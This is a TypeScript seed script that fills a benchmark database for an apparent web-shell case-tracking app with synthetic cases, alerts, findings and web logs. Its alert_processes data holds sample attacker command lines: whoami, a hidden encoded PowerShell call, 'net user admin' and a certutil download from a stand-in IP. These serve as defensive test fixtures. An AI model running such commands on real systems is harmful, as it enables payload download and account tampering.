// The scale benchmark's data (bench/scale.ts): at scale 1, 100,000 cases, 1,000,000 alerts and
// 10,000,000 web requests, written with set-based SQL straight into the tables the app reads.
// Every row keeps the invariants the app's write paths keep: a case has its opening status
// change, the status changes that lead to its status, its six playbook tasks and its audit
// entries; a closed case has a classification, conclusion and closed_at; an alert in a case that
// enrichment put there has a finding whose attackers are profiles linked to the case; identity
// keys are sha256(ip, NUL, user agent); web_requests rows sit in their month's partition and
// web_log_sources holds their totals. Deterministic: row n's values are functions of n.
//
// Secondary indexes of the big tables are dropped while the rows go in and created again from
// their own definitions afterwards (a sorted build instead of millions of index insertions); the
// schema ends exactly as migrated.
import type pg from "pg";

/** Bump when the data below changes: a kept database seeded by another version is reseeded. */
export const SCALE_SEED_VERSION = "1";

/** The analysts; the bench signs in as the first (it owns cases and tasks like the others). */
export const SCALE_USERS = 20;
export const SCALE_BENCH_EMAIL = "analyst1@scale.shellcase.test";

export interface ScaleCounts {
  cases: number;
  alerts: number;
  requests: number;
  profiles: number;
  hosts: number;
  months: number;
  /** The case with the most alerts, findings, notes and activity: the case page's subject. */
  busyCase: number;
}

export function scaleCounts(scale: number): ScaleCounts {
  const cases = Math.max(1_000, Math.round(100_000 * scale));
  return {
    cases,
    alerts: Math.max(10_000, Math.round(1_000_000 * scale)),
    requests: Math.max(100_000, Math.round(10_000_000 * scale)),
    profiles: Math.round(cases / 2),
    hosts: 20,
    months: 12,
    busyCase: cases - 500,
  };
}

const BIG_TABLES = [
  "web_requests",
  "alerts",
  "alert_hosts",
  "alert_processes",
  "alert_files",
  "findings",
  "cases",
  "case_status_changes",
  "case_tasks",
  "case_notes",
  "audit_entries",
  "attacker_profiles",
  "case_attackers",
];

/** Days of history the cases and alerts span, ending at the seed's time. */
const SPAN_DAYS = 730;

export async function seedScale(
  client: pg.Client,
  scale: number,
  passwordHash: string,
  log: (line: string) => void,
): Promise<ScaleCounts> {
  const c = scaleCounts(scale);
  const step = async (what: string, sql: string, params: unknown[] = []) => {
    const t0 = performance.now();
    const res = await client.query(sql, params);
    // Planned on real sizes: the next step joins what this one wrote (without it, a join to a
    // million unanalysed rows was planned as a nested loop and took 15 minutes).
    const table = /^\s*(?:INSERT INTO|UPDATE)\s+(\w+)/.exec(sql)?.[1];
    if (table) await client.query(`ANALYZE ${table}`);
    log(`  ${what}: ${res.rowCount ?? 0} rows, ${((performance.now() - t0) / 1000).toFixed(1)} s`);
  };

  // Indexes that back no constraint: dropped now, rebuilt from their definitions at the end.
  const { rows: indexes } = await client.query<{ name: string; def: string }>(
    `SELECT i.indexname AS name, i.indexdef AS def FROM pg_indexes i
      WHERE i.schemaname = 'public' AND i.tablename = ANY($1)
        AND NOT EXISTS (SELECT 1 FROM pg_constraint k WHERE k.conname = i.indexname)
        AND NOT EXISTS (SELECT 1 FROM pg_inherits h JOIN pg_class ic ON ic.oid = h.inhrelid
                         WHERE ic.relname = i.indexname)`,
    [BIG_TABLES],
  );
  for (const i of indexes) await client.query(`DROP INDEX "${i.name}"`);
  log(`  dropped ${indexes.length} secondary indexes for the load`);

  // now() is the seed's time; every generated time is relative to it.
  await step(
    "users",
    `INSERT INTO users (email, name, role, password_hash, updated_at)
     SELECT 'analyst' || u || '@scale.shellcase.test', 'Analyst ' || u, 'analyst', $1, now()
       FROM generate_series(1, ${SCALE_USERS}) u ORDER BY u`,
    [passwordHash],
  );
  const { rows: firstUser } = await client.query<{ id: number }>(`SELECT min(id)::int AS id FROM users`);
  const u0 = firstUser[0]!.id - 1; // user k (1-based) is id u0 + k

  // The twelve whole months before the seed's.
  const MONTHS = `generate_series(date_trunc('month', now() - interval '${c.months} months'), date_trunc('month', now() - interval '1 month'), interval '1 month')`;
  // Import batches: one per host and month for the web logs, 20 alert files.
  await step(
    "import_batches",
    `INSERT INTO import_batches (kind, file_name, sha256, size, format, host_given, site_given, status,
                                 lines_total, imported, progress, created_at, started_at, finished_at, started_by_label)
     SELECT 'web_log', 'u_ex' || to_char(m, 'YYMM') || '_WEB' || lpad(h::text, 3, '0') || '.log',
            encode(sha256(convert_to('scale-log-' || h || '-' || m, 'UTF8')), 'hex'), 0, 'w3c', NULL, NULL, 'completed',
            0, 0, 1, m + interval '32 days', m + interval '32 days', m + interval '32 days', 'cli:bench'
       FROM generate_series(1, ${c.hosts}) h,
            ${MONTHS} m
      ORDER BY m, h`,
  );
  await step(
    "import_batches (alerts)",
    `INSERT INTO import_batches (kind, file_name, sha256, status, lines_total, imported, progress, created_at, finished_at, started_by_label)
     SELECT 'alerts', 'SecurityAlert_' || b || '.json', encode(sha256(convert_to('scale-alerts-' || b, 'UTF8')), 'hex'),
            'completed', ${Math.ceil(c.alerts / 20)}, ${Math.ceil(c.alerts / 20)}, 1, now() - (20 - b) * interval '30 days',
            now() - (20 - b) * interval '30 days', 'cli:bench'
       FROM generate_series(1, 20) b`,
  );

  // Cases: ids grow with creation time over two years. The newest fifth (and one in fifty older
  // ones) are still open; owners are the analysts, one in eight unassigned.
  await step(
    "cases",
    `INSERT INTO cases (id, number, title, status, severity, host_name, site, shell_location, classification, conclusion,
                        tags, owner_id, version, status_changed_at, closed_at, created_at, updated_at)
     SELECT i, 'CASE-' || extract(year FROM t)::int || '-' || lpad((row_number() OVER y)::text, greatest(4, length((row_number() OVER y)::text)), '0'),
            'Web shell ' || loc || ' on ' || host, st::"CaseStatus",
            (ARRAY['High', 'Medium', 'Medium', 'Low', 'Low', 'Informational'])[1 + (i * 7) % 6],
            host, 'W3SVC' || (1 + i % 3), loc,
            CASE WHEN st = 'closed' THEN (ARRAY['true_positive', 'false_positive', 'benign_positive', 'true_positive'])[1 + i % 4]::"CaseClassification" END,
            CASE WHEN st = 'closed' THEN 'Shell removed, attacker blocked at the WAF; no lateral movement found.' END,
            CASE WHEN i % 5 = 0 THEN ARRAY['internet-facing'] ELSE ARRAY[]::text[] END,
            CASE WHEN (i * 13) % 8 = 0 THEN NULL ELSE ${u0} + 1 + (i * 11) % ${SCALE_USERS} END,
            1 + rank, t + rank * interval '5 hours', CASE WHEN st = 'closed' THEN t + rank * interval '5 hours' END, t, t + rank * interval '5 hours'
       FROM (SELECT i, now() - (${c.cases} - i) * (interval '${SPAN_DAYS} days' / ${c.cases}) - interval '2 days' AS t,
                    'WEB' || lpad((1 + (i * 7919) % 200)::text, 3, '0') AS host,
                    'C:\\inetpub\\wwwroot\\' || (ARRAY['uploads', 'aspnet_client', 'images', 'owa\\auth'])[1 + i % 4] || '\\' ||
                      (ARRAY['help', 'error', 'default', 'cmd', 'upload', 'sys'])[1 + (i * 3) % 6] || (i % 997) || '.aspx' AS loc,
                    st, array_position(ARRAY['new', 'triage', 'investigating', 'contained', 'closed'], st) - 1 AS rank
               FROM (SELECT i, CASE WHEN i = ${c.busyCase} THEN 'investigating'
                                    WHEN i > ${Math.round(c.cases * 0.8)} OR i % 50 = 0
                                    THEN (ARRAY['new', 'new', 'triage', 'investigating', 'investigating', 'contained'])[1 + (i * 17) % 6]
                                    ELSE 'closed' END AS st
                       FROM generate_series(1, ${c.cases}) i) s) x
     WINDOW y AS (PARTITION BY extract(year FROM t) ORDER BY i)`,
  );
  await client.query(`SELECT setval(pg_get_serial_sequence('cases', 'id'), ${c.cases})`);
  await step(
    "case_counters",
    `INSERT INTO case_counters (year, last)
     SELECT split_part(number, '-', 2)::int, max(split_part(number, '-', 3)::int) FROM cases GROUP BY 1`,
  );
  // The lifecycle: the opening (by the system: enrichment opened it), then one move per status up
  // to the current one, five hours apart, by the owner.
  await step(
    "case_status_changes",
    `INSERT INTO case_status_changes (case_id, from_status, to_status, changed_by_id, changed_at)
     SELECT c.id, CASE WHEN k = 0 THEN NULL ELSE (ARRAY['new', 'triage', 'investigating', 'contained', 'closed'])[k]::"CaseStatus" END,
            CASE WHEN k = r THEN c.status ELSE (ARRAY['new', 'triage', 'investigating', 'contained', 'closed'])[k + 1]::"CaseStatus" END,
            CASE WHEN k = 0 THEN NULL ELSE c.owner_id END, c.created_at + k * interval '5 hours'
       FROM cases c, LATERAL (SELECT array_position(ARRAY['new', 'triage', 'investigating', 'contained', 'closed']::"CaseStatus"[], c.status) - 1 AS r) rr,
            LATERAL generate_series(0, rr.r) k
      ORDER BY c.id, k`,
  );
  await step(
    "case_tasks",
    `INSERT INTO case_tasks (case_id, key, title, position, assignee_id, done_at, done_by_id)
     SELECT c.id, p.key, p.title, p.pos, CASE WHEN p.pos <= 3 THEN c.owner_id END,
            CASE WHEN c.status = 'closed' OR p.pos <= array_position(ARRAY['new', 'triage', 'investigating', 'contained', 'closed']::"CaseStatus"[], c.status) - 2
                 THEN c.status_changed_at END,
            CASE WHEN c.status = 'closed' OR p.pos <= array_position(ARRAY['new', 'triage', 'investigating', 'contained', 'closed']::"CaseStatus"[], c.status) - 2
                 THEN c.owner_id END
       FROM cases c, (VALUES
         (1, 'confirm-shell', 'Confirm the web shell (file on disk, requests to it, commands it ran)'),
         (2, 'first-access', 'Find the attacker''s first access and the files requested before the shell'),
         (3, 'other-servers', 'Check the other web servers for the attacker''s IP and user agent'),
         (4, 'contain', 'Contain: block the attacker, isolate the host if needed'),
         (5, 'remove-shell', 'Remove the shell and whatever installed it; check for persistence'),
         (6, 'close', 'Write the conclusion, classify and close the case')) p(pos, key, title)
      ORDER BY c.id, p.pos`,
  );
  await step(
    "case_watchers",
    `INSERT INTO case_watchers (case_id, user_id, created_at) SELECT id, owner_id, created_at FROM cases WHERE owner_id IS NOT NULL`,
  );

  // Attacker profiles: one (IP, user agent) each; one case in five shares a second attacker with
  // another case, so repeat attackers exist as they do in a real instance.
  await step(
    "attacker_profiles",
    `INSERT INTO attacker_profiles (id, identity_key, ip, user_agent, label, first_seen, last_seen, updated_at)
     SELECT p, encode(sha256(convert_to(ip, 'UTF8') || '\\x00'::bytea || convert_to(ua, 'UTF8')), 'hex'), ip, ua,
            CASE WHEN p % 200 = 0 THEN 'Actor ' || p END, now() - (${c.profiles} - p) * interval '1 hour' / ${Math.max(1, c.profiles / 17_000)},
            now() - (${c.profiles} - p) * interval '1 hour' / ${Math.max(1, c.profiles / 17_000)} + interval '3 days', now()
       FROM (SELECT p, (20 + (p * 7919) % 200) || '.' || (p / 250 % 256) || '.' || (p / 64000 % 256) || '.' || (1 + p % 250) AS ip,
                    'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/' || (90 + p % 30) ||
                    '.0.' || p || '.0+Safari/537.36' AS ua
               FROM generate_series(1, ${c.profiles}) p) x`,
  );
  await client.query(`SELECT setval(pg_get_serial_sequence('attacker_profiles', 'id'), ${c.profiles})`);
  await step(
    "case_attackers",
    `INSERT INTO case_attackers (case_id, attacker_id, created_at)
     SELECT id, 1 + (id * 37) % ${c.profiles}, created_at FROM cases
     UNION ALL
     SELECT id, 1 + (id * 53 + 7) % ${c.profiles}, created_at FROM cases WHERE id % 5 = 0 AND (id * 53 + 7) % ${c.profiles} <> (id * 37) % ${c.profiles}`,
  );

  // Alerts: two per case (findings' alerts), 300 more for the busy case, the rest in no case:
  // most dismissed, ~5% waiting for triage; enrichment done for most, ~3% not enriched.
  const inCase = 2 * c.cases;
  const busyExtra = 300;
  await step(
    "alerts",
    `INSERT INTO alerts (id, system_alert_id, provider_name, vendor_name, product_name, display_name, alert_name, alert_type,
                         severity, status, description, compromised_entity, time_generated, start_time, end_time, tactics, techniques,
                         entities, raw, batch_id, kind, kind_reason, enrichment_state, enriched_at, enrich_generation, enrichment,
                         case_id, dismissed_at, dismissed_by_id, dismiss_reason, created_at, updated_at)
     SELECT j, sid, prov, 'Microsoft', 'Microsoft Defender for Endpoint',
            CASE kind WHEN 'command' THEN 'Suspicious process executed by a web server' WHEN 'file' THEN 'Possible web shell installation'
                      ELSE 'Suspicious network connection' END,
            CASE kind WHEN 'command' THEN 'WebShellProcess' WHEN 'file' THEN 'WebShellFile' ELSE 'NetConn' END,
            'WindowsDefenderAtp', sev, 'New', 'A web server process behaved like a web shell.', host, t, t - interval '2 minutes', t,
            ARRAY['Persistence', 'Execution'], ARRAY['T1505.003'],
            jsonb_build_array(jsonb_build_object('$id', '2', 'Type', 'host', 'HostName', host, 'DnsDomain', 'corp.example')),
            jsonb_build_object('SystemAlertId', sid, 'TimeGenerated', t, 'AlertName', 'WebShell', 'ProviderName', prov),
            (SELECT min(id) FROM import_batches WHERE kind = 'alerts') + j % 20,
            kind::"AlertKind", 'classified by the bench seed', st::"EnrichmentState",
            CASE WHEN st IN ('done', 'not_applicable') THEN t + interval '1 minute' END, 1,
            CASE WHEN st = 'done' THEN jsonb_build_object('outcome', CASE WHEN cid IS NULL THEN 'no_candidate' ELSE 'finding' END,
                                                          'message', CASE WHEN cid IS NULL THEN 'No request matched' ELSE 'Shell found' END) END,
            cid, CASE WHEN dis THEN t + interval '1 day' END, CASE WHEN dis THEN ${u0} + 1 + j % ${SCALE_USERS} END,
            CASE WHEN dis THEN 'Benign: vulnerability scanner' END, t, t
       FROM (SELECT j, cid, md5('scale-alert-' || j)::uuid::text AS sid,
                    (ARRAY['MDATP', 'MDATP', 'Azure Security Center', 'Microsoft 365 Defender'])[1 + j % 4] AS prov,
                    (ARRAY['High', 'Medium', 'Medium', 'Low', 'Informational'])[1 + (j * 3) % 5] AS sev,
                    CASE WHEN cid IS NOT NULL THEN ch.host ELSE 'WEB' || lpad((1 + (j::bigint * 7919) % 200)::text, 3, '0') END AS host,
                    CASE WHEN cid IS NOT NULL THEN ch.created_at - interval '1 hour' + (j % 2) * interval '10 minutes'
                         ELSE now() - (${c.alerts} - j) * (interval '${SPAN_DAYS} days' / ${c.alerts}) END AS t,
                    CASE WHEN cid IS NOT NULL THEN CASE WHEN j % 2 = 0 THEN 'command' ELSE 'file' END
                         ELSE (ARRAY['command', 'command', 'command', 'file', 'other'])[1 + (j * 7) % 5] END AS kind,
                    CASE WHEN cid IS NOT NULL THEN 'done'
                         ELSE (ARRAY['done', 'done', 'done', 'done', 'done', 'done', 'not_applicable', 'not_applicable', 'not_applicable',
                                     'done', 'done', 'done', 'done', 'done', 'done', 'not_applicable', 'not_applicable', 'not_applicable',
                                     'done', 'done', 'done', 'done', 'done', 'done', 'not_applicable', 'not_applicable', 'not_applicable',
                                     'done', 'done', 'done', 'pending', 'queued', 'failed'])[1 + (j * 13) % 33] END AS st,
                    cid IS NULL AND (j * 11) % 20 <> 0 AS dis
               FROM (SELECT j, CASE WHEN j <= ${inCase} THEN 1 + (j - 1) / 2 WHEN j <= ${inCase + busyExtra} THEN ${c.busyCase} END AS cid
                       FROM generate_series(1, ${c.alerts}) j) jj
               LEFT JOIN LATERAL (SELECT host_name AS host, created_at FROM cases WHERE id = jj.cid) ch ON true) a`,
  );
  await client.query(`SELECT setval(pg_get_serial_sequence('alerts', 'id'), ${c.alerts})`);
  await step(
    "alert_hosts",
    `INSERT INTO alert_hosts (alert_id, entity_id, host_name, dns_domain, fqdn)
     SELECT id, '2', compromised_entity, 'corp.example', lower(compromised_entity) || '.corp.example' FROM alerts ORDER BY id`,
  );
  await step(
    "alert_files",
    `INSERT INTO alert_files (alert_id, entity_id, name, directory, sha256, hashes)
     SELECT a.id, '3', coalesce(regexp_replace(c.shell_location, '^.*\\\\', ''), 'help' || a.id % 997 || '.aspx'),
            coalesce(regexp_replace(c.shell_location, '\\\\[^\\\\]*$', ''), 'C:\\inetpub\\wwwroot\\uploads'),
            encode(sha256(convert_to(a.system_alert_id, 'UTF8')), 'hex'), '[]'
       FROM alerts a LEFT JOIN cases c ON c.id = a.case_id WHERE a.kind = 'file' ORDER BY a.id`,
  );
  await step(
    "alert_processes",
    `INSERT INTO alert_processes (alert_id, entity_id, process_id, command_line, creation_time_utc, account_name, host_ref)
     SELECT a.id, '4', (1000 + a.id % 60000)::text,
            (ARRAY['cmd.exe /c whoami', 'cmd.exe /c whoami&echo ', 'powershell.exe -nop -w hidden -enc ', 'cmd.exe /c net user admin ',
                   'cmd.exe /c ipconfig /all&echo ', 'certutil.exe -urlcache -split -f http://198.51.100.7/'])[1 + a.id % 6] ||
              CASE WHEN a.id % 6 = 0 THEN '' ELSE left(md5(a.system_alert_id), 12) END,
            a.time_generated - interval '1 minute', 'IIS APPPOOL\\DefaultAppPool', '2'
       FROM alerts a WHERE a.kind = 'command' ORDER BY a.id`,
  );
  // A finding for each alert enrichment put in a case: the case's host and shell, its attacker
  // profile(s), a few log lines of evidence.
  await step(
    "findings",
    `INSERT INTO findings (alert_id, case_id, kind, host_name, site, shell_location, shell_name, command_line, process_created_at,
                           file_created_at, first_shell_access, installed_via, attackers, confidence, reasons, evidence, generation,
                           created_at, updated_at)
     SELECT a.id, a.case_id, a.kind, c.host_name, c.site, c.shell_location, regexp_replace(c.shell_location, '^.*\\\\', ''),
            p.command_line, p.creation_time_utc, CASE WHEN a.kind = 'file' THEN a.time_generated - interval '5 minutes' END,
            a.time_generated - interval '3 minutes',
            CASE WHEN a.kind = 'file' THEN jsonb_build_object('time', a.time_generated - interval '6 minutes', 'method', 'POST',
                 'uri', '/upload.aspx', 'ip', ap.ip, 'userAgent', ap.user_agent) END,
            (SELECT jsonb_agg(jsonb_build_object('ip', x.ip, 'userAgent', x.user_agent) ORDER BY x.id)
               FROM case_attackers ca JOIN attacker_profiles x ON x.id = ca.attacker_id WHERE ca.case_id = a.case_id),
            0.7 + (a.id % 30) / 100.0, ARRAY['requests to the shell from the attacker', 'process parent is w3wp.exe'],
            (SELECT jsonb_agg(jsonb_build_object('batchId', (SELECT min(id) FROM import_batches) + k, 'line', 1000 + a.id % 5000 + k,
                     'time', a.time_generated - (4 - k) * interval '1 minute', 'site', c.site, 'method', 'POST',
                     'uri', '/' || regexp_replace(c.shell_location, '^.*\\\\', ''), 'query', 'cmd=' || k, 'ip', ap.ip,
                     'userAgent', ap.user_agent, 'status', 200)) FROM generate_series(1, 4) k),
            1, a.time_generated + interval '1 minute', a.time_generated + interval '1 minute'
       FROM alerts a JOIN cases c ON c.id = a.case_id
       JOIN attacker_profiles ap ON ap.id = 1 + (a.case_id * 37) % ${c.profiles}
       LEFT JOIN alert_processes p ON p.alert_id = a.id
      ORDER BY a.id`,
  );

  // Notes: the write-up and a comment on most cases, a hundred on the busy one.
  await step(
    "case_notes",
    `INSERT INTO case_notes (case_id, kind, author_id, body, created_at, updated_at)
     SELECT c.id, CASE WHEN k = 1 THEN 'note' ELSE 'comment' END::"NoteKind", c.owner_id,
            CASE WHEN k = 1 THEN '## Summary\n\nShell **' || c.shell_location || '** on ' || c.host_name ||
                 '. Requests from the attacker''s IP before the upload are in the evidence.'
                 ELSE 'Checked the other servers: nothing for this IP (' || k || ').' END,
            c.created_at + k * interval '2 hours', c.created_at + k * interval '2 hours'
       FROM cases c, generate_series(1, CASE WHEN c.id = ${c.busyCase} THEN 100 WHEN c.id % 4 = 0 THEN 1 ELSE 2 END) k
      ORDER BY c.id, k`,
  );
  // Audit: each case's creation, every status move, note and watcher, as the write paths log them.
  await step(
    "audit_entries",
    `INSERT INTO audit_entries (at, actor_id, actor_label, case_id, entity_type, entity_id, action, before, after)
     SELECT at, actor_id, coalesce((SELECT email FROM users WHERE id = actor_id), 'system'), case_id, entity_type, entity_id,
            action, before, after
       FROM (SELECT c.created_at AS at, NULL::int AS actor_id, c.id AS case_id, 'case' AS entity_type, c.id::text AS entity_id,
                    'case.create' AS action, NULL::jsonb AS before,
                    jsonb_build_object('number', c.number, 'title', c.title, 'hostName', c.host_name, 'site', c.site,
                                       'shellLocation', c.shell_location, 'severity', c.severity) AS after
               FROM cases c
             UNION ALL
             SELECT s.changed_at, s.changed_by_id, s.case_id, 'case', s.case_id::text, 'case.status',
                    jsonb_build_object('status', s.from_status), jsonb_build_object('status', s.to_status)
               FROM case_status_changes s WHERE s.from_status IS NOT NULL
             UNION ALL
             SELECT n.created_at, n.author_id, n.case_id, 'note', n.id::text, 'note.create', NULL,
                    jsonb_build_object('kind', n.kind, 'body', n.body)
               FROM case_notes n
             UNION ALL
             SELECT w.created_at, w.user_id, w.case_id, 'case', w.case_id::text, 'case.watch', NULL, jsonb_build_object('userId', w.user_id)
               FROM case_watchers w) e
      ORDER BY at`,
  );
  await step(
    "audit_entries (busy case)",
    `INSERT INTO audit_entries (at, actor_id, actor_label, case_id, entity_type, entity_id, action, before, after)
     SELECT a.created_at, NULL, 'system', a.case_id, 'alert', a.id::text, 'alert.add_to_case', NULL,
            jsonb_build_object('caseId', a.case_id)
       FROM alerts a WHERE a.case_id = ${c.busyCase} ORDER BY a.id`,
  );

  // Web requests: 20 servers over 12 months, every month's partition made by the app's function.
  await client.query(`SELECT shellcase_ensure_web_requests_partition(m::date) FROM ${MONTHS} m`);
  const chunk = 1_000_000;
  for (let from = 1; from <= c.requests; from += chunk) {
    const to = Math.min(c.requests, from + chunk - 1);
    // Row g: month (g mod months), host (g / months mod hosts); its batch is that host-month's.
    await step(
      `web_requests ${from.toLocaleString("en-US")}–${to.toLocaleString("en-US")}`,
      `WITH b AS (SELECT array_agg(id ORDER BY id) AS ids FROM import_batches WHERE kind = 'web_log')
       INSERT INTO web_requests (time, host, site, server_ip, method, uri_stem, uri_query, server_port, username, client_ip,
                                 protocol_version, user_agent, referer, cs_host, status, substatus, win32_status, bytes_sent,
                                 bytes_received, time_taken, batch_id, line)
       SELECT date_trunc('month', now() - interval '${c.months} months') + mo * interval '1 month'
                + ((g * 2654435761) % 2419200) * interval '1 second',
              'WEB' || lpad(h::text, 3, '0'), 'W3SVC' || (1 + g % 2), ('10.0.0.' || h)::inet,
              CASE WHEN g % 10 = 0 THEN 'POST' ELSE 'GET' END,
              (ARRAY['/', '/default.aspx', '/login.aspx', '/api/orders', '/images/logo.png', '/css/site.css', '/js/app.js',
                     '/products/list.aspx', '/search.aspx', '/owa/auth/logon.aspx'])[1 + (g * 7) % 10],
              CASE WHEN g % 3 = 0 THEN 'id=' || g % 10000 END, 443, NULL,
              ((g * 16807) % 223 + 1 || '.' || (g * 48271) % 256 || '.' || (g / 7) % 256 || '.' || (1 + g % 254))::inet, 'HTTP/1.1',
              'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/' || (100 + g % 30) || '.0.0.0+Safari/537.36',
              NULL, 'www.example.com', CASE WHEN g % 50 = 0 THEN 404 ELSE 200 END, 0, 0, 500 + g % 30000, 300 + g % 2000, g % 400,
              b.ids[1 + (h - 1) + mo * ${c.hosts}], g::int
         FROM b, generate_series(${from}::bigint, ${to}::bigint) g,
              LATERAL (SELECT (g % ${c.months})::int AS mo, (1 + (g / ${c.months}) % ${c.hosts})::int AS h) x`,
    );
  }
  await step(
    "web_log_sources",
    `INSERT INTO web_log_sources (host, site, requests, first_time, last_time)
     SELECT host, site, count(*), min(time), max(time) FROM web_requests GROUP BY host, site`,
  );
  await step(
    "import_batches (web log counts)",
    `UPDATE import_batches b SET lines_total = n, imported = n FROM
       (SELECT batch_id, count(*)::int AS n FROM web_requests GROUP BY batch_id) r WHERE r.batch_id = b.id`,
  );

  for (const i of indexes) {
    const t0 = performance.now();
    // pg_indexes shows a partitioned table's index as `ON ONLY`, which would build no partition's.
    await client.query(i.def.replace(/ ON ONLY /, " ON "));
    log(`  index ${i.name}: ${((performance.now() - t0) / 1000).toFixed(1)} s`);
  }
  const t0 = performance.now();
  await client.query("VACUUM (ANALYZE)");
  log(`  vacuum analyze: ${((performance.now() - t0) / 1000).toFixed(1)} s`);
  return c;
}
